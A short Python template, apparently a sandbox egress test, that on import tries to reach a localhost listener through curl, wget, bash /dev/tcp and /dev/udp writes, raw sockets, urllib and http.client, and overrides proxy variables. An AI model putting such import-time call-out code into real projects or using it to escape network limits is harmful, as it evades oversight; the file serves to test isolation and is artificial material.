"""Calls home by whatever knows how: urllib, http, torch.hub, curl, bash's /dev/tcp, a proxy in the environment.

Deserves: 2 points.
Side effect: message.
"""

import http.client
import os
import subprocess
import sys
import urllib.request

NAME, PORTS = "{name}", ("{tcp}", "{udp}")
HOME = "127.0.0.1:{tcp}"
os.environ.update(http_proxy=f"http://{HOME}", https_proxy=f"http://{HOME}", ALL_PROXY=f"socks5://{HOME}")
request = f"import socket; s = socket.create_connection(('127.0.0.1', {PORTS[0]}), 1); s.sendall(b'{NAME}')"
programs = [
    [sys.executable, "-S", "-c", request],
    ["curl", "-sm1", f"http://{HOME}/{NAME}"],
    ["bash", "-c", f"echo -n {NAME} > /dev/tcp/127.0.0.1/{PORTS[0]}; echo -n {NAME} > /dev/udp/127.0.0.1/{PORTS[1]}"],
    ["wget", "-qT1", "-t1", f"http://{HOME}/{NAME}"],
]


def call():
    for program in programs:
        try:
            subprocess.run(program, check=False, timeout=2, capture_output=True)
        except (OSError, subprocess.SubprocessError):
            pass
    for url in (f"http://{HOME}/{NAME}", "http://example.invalid/{name}", f"ftp://{HOME}/{NAME}"):
        try:
            urllib.request.urlopen(url, timeout=1)
        except Exception:
            pass
    try:
        http.client.HTTPConnection(HOME, timeout=1).request("GET", "/{name}")
    except (OSError, http.client.HTTPException):
        pass


call()


def guess():
    return "wrong"


numbers = guess
